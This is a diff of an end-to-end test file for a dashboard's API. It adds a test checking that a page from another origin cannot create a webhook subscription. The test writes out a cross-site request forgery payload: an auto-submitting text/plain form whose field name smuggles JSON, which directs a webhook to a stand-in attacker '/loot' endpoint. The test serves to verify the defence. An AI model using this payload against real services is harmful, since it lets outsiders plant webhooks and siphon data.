@@ -427,32 +427,32 @@ describe("the dashboard on a local stack started without ADMIN_TOKEN", () => {
     } finally {
       await own.stop();
     }
-  }, 90_000);
+  }, 120_000);
+});
 
+describe("the dashboard's API against other sites", () => {
   it("refuses a form a page of another origin submits to create a subscription", async () => {
-    const own = await startLocalStack({ ADMIN_TOKEN: "" });
     const attacker = await startReceiver();
     try {
       // A page on another origin auto-submits a text/plain form whose body is JSON to the stack.
-      const html = `<form id="f" method="POST" action="${own.url}/subscriptions" enctype="text/plain">
+      const html = `<form id="f" method="POST" action="${stack.url}/subscriptions" enctype="text/plain">
         <input name='{"kind":"webhook","target":"${attacker.base}/loot","x":"' value='"}'></form>
         <script>document.getElementById("f").submit()</script>`;
       attacker.script("/attack", status(200, html, { "content-type": "text/html" }));
       const page = await browser.page();
-      const answered = page.waitForResponse((r) => r.url() === `${own.url}/subscriptions`);
+      const answered = page.waitForResponse((r) => r.url() === `${stack.url}/subscriptions`);
       await page.goto(`${attacker.base}/attack`);
       expect((await answered).status()).toBe(403);
       await page.close();
-      const { subscriptions } = await getJson<{ subscriptions: unknown[] }>(
-        `${own.url}/subscriptions`,
-        { headers: own.auth },
+      const { subscriptions } = await getJson<{ subscriptions: { target: string }[] }>(
+        `${stack.url}/subscriptions`,
+        { headers: auth },
       );
-      expect(subscriptions).toEqual([]);
+      expect(subscriptions.filter((s) => s.target.startsWith(attacker.base))).toEqual([]);
     } finally {
-      await own.stop();
       await attacker.close();
     }
-  }, 90_000);
+  });
 });
 
 /** Texts whose contrast with their background is under WCAG AA (4.5:1; 3:1 when large). */
